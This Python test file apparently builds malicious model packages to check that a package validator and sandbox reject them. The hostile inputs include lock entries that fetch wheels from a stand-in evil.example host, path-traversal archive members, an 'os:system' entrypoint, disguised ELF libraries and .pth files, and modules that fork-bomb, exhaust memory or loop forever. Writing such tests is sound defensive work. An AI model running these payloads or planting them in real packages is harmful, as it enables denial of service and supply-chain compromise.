"""Hostile packages of code: locks, wheels, entry points, sources, and what they would run."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.builders.hostile_payloads import (
    CODE,
    ELF,
    HASH,
    LOAD,
    LOCK,
    SCHEMA,
    Case,
    relist,
    replaced,
    sha256,
    zipped,
)


def with_wheel(*members: tuple[str, bytes], lock: str | None = None, name: str = "") -> Any:
    """A wheel with these members, and a lock that names it."""

    def make(package: Path, canary: Path) -> None:
        (package / "wheels").mkdir(exist_ok=True)
        path = package / "wheels" / (name or "evil-1.0-py3-none-any.whl")
        path.write_bytes(zipped(*members, compressed=True))
        text = lock or f"evil==1.0 --hash=sha256:{sha256(path)}\n"
        (package / "requirements.lock").write_text(text)
        relist(package)

    return make


def locked(text: str) -> Callable[[Path, Path], None]:
    return replaced("requirements.lock", lambda canary: text.encode())


def declared(**changes: object) -> Callable[[Path, Path], None]:
    def make(package: Path, canary: Path) -> None:
        path = package / "python.json"
        path.write_text(json.dumps(json.loads(path.read_text()) | changes))
        relist(package)

    return make


def touching(canary: Path, rest: str = "") -> bytes:
    """Source that makes a mark when it is imported."""
    return f"import pathlib\npathlib.Path({str(canary)!r}).touch()\n{rest}".encode()


def module(source: str) -> Callable[[Path, Path], None]:
    return replaced("code/model.py", lambda canary: source.encode())


def importing(package: Path, canary: Path) -> None:
    """The mark would be made at import; the lock is what is wrong."""
    (package / "code" / "model.py").write_bytes(touching(canary, "class Model: pass\n"))
    (package / "requirements.lock").write_text("numpy>=1\n")
    relist(package)


CODES: dict[str, Case] = {
    # Code.
    "lock without hashes": Case("python", locked("numpy==2.0\n"), LOCK, "no sha256"),
    "lock without versions": Case("python", locked(f"numpy --hash=sha256:{HASH}\n"), LOCK, "=="),
    "lock with a range": Case("python", locked(f"numpy>=2 --hash=sha256:{HASH}\n"), LOCK, "pinned"),
    "lock with an index": Case("python", locked("--index-url https://evil.example\n"), LOCK, "pin"),
    "lock with an address": Case(
        "python", locked(f"evil @ https://evil.example/e.whl --hash=sha256:{HASH}\n"), LOCK, "pin"
    ),
    "lock of a lesser hash": Case("python", locked("numpy==2.0 --hash=md5:00\n"), LOCK, "sha256"),
    "locked library that is not there": Case(
        "python", locked(f"numpy==2.0 --hash=sha256:{HASH}\n"), LOCK, "has no wheel"
    ),
    "wheel of another hash": Case(
        "python",
        with_wheel(("evil.py", b""), lock=f"evil==1.0 --hash=sha256:{HASH}\n"),
        LOCK,
        "a hash that it does not list",
    ),
    "wheel that no lock names": Case(
        "python", with_wheel(("evil.py", b""), lock="# none\n"), LOCK, "not among"
    ),
    "wheel with a path upwards": Case(
        "python", with_wheel(("../../evil.py", b"")), LOCK, "leads out of it"
    ),
    "wheel that grows": Case(
        "python", with_wheel(("evil.py", b" " * 50_000_000)), LOCK, "unpacks from"
    ),
    "wheel for another machine": Case(
        "python",
        with_wheel(("evil.py", b""), name="evil-1.0-cp27-cp27m-win32.whl"),
        LOCK,
        "another Python or platform",
    ),
    "source archive among the wheels": Case(
        "python", with_wheel(("setup.py", b""), name="evil-1.0.tar.gz"), LOCK, "is no wheel"
    ),
    "entry point outside": Case("python", declared(entrypoint="os:system"), CODE, "os"),
    "entry point by a path": Case(
        "python", declared(entrypoint="../../evil:Model"), SCHEMA, "entrypoint"
    ),
    "entry point that is no class": Case(
        "python", declared(entrypoint="model:predict"), CODE, "no class predict"
    ),
    "limits beyond reason": Case(
        "python", declared(limits={"memoryBytes": 1 << 60}), SCHEMA, "memoryBytes"
    ),
    "library among the sources": Case(
        "python", replaced("code/model.so", lambda c: ELF), CODE, "model.so"
    ),
    "library named as a source": Case(
        "python", replaced("code/fast.py", lambda c: ELF), CODE, "fast.py"
    ),
    "compiled module": Case(
        "python", replaced("code/model.pyc", lambda c: touching(c)), CODE, "model.pyc"
    ),
    "library among the data": Case(
        "python", replaced("data/lib.so", lambda c: ELF), CODE, "lib.so"
    ),
    "path file": Case("python", replaced("code/evil.pth", lambda c: touching(c)), CODE, "evil.pth"),
    "code that leaves a mark at import": Case("python", importing, LOCK, "pinned"),
    "code that leaves a mark when it runs": Case(
        "python",
        replaced("code/model.py", lambda c: touching(c, "class Model: pass\n")),
        LOAD,
        "Operation not permitted",
        loads=True,
    ),
    "code that never answers": Case(
        "python",
        module(
            "class Model:\n    def __init__(self, directory): pass\n"
            "    def predict(self, columns):\n        while True: pass\n"
        ),
        LOAD,
        "took longer than 1 s",
        loads=True,
    ),
    "code that forks without end": Case(
        "python",
        module("import os\nwhile True:\n    os.fork()\nclass Model: pass\n"),
        LOAD,
        "Operation not permitted",
        loads=True,
    ),
    "code that takes all memory": Case(
        "python",
        module("x = []\nwhile True:\n    x.append(bytes(1 << 24))\nclass Model: pass\n"),
        LOAD,
        "MemoryError",
        loads=True,
    ),
    "array longer than its bytes": Case(
        "python",
        replaced(
            "data/w.npy",
            lambda c: (
                b"\x93NUMPY\x01\x00v\x00"
                + b"{'descr': '<f8', 'fortran_order': False, 'shape': (9000000000,), }".ljust(117)
                + b"\n"
            ),
        ),
        CODE,
        "as long as its header says",
    ),
}
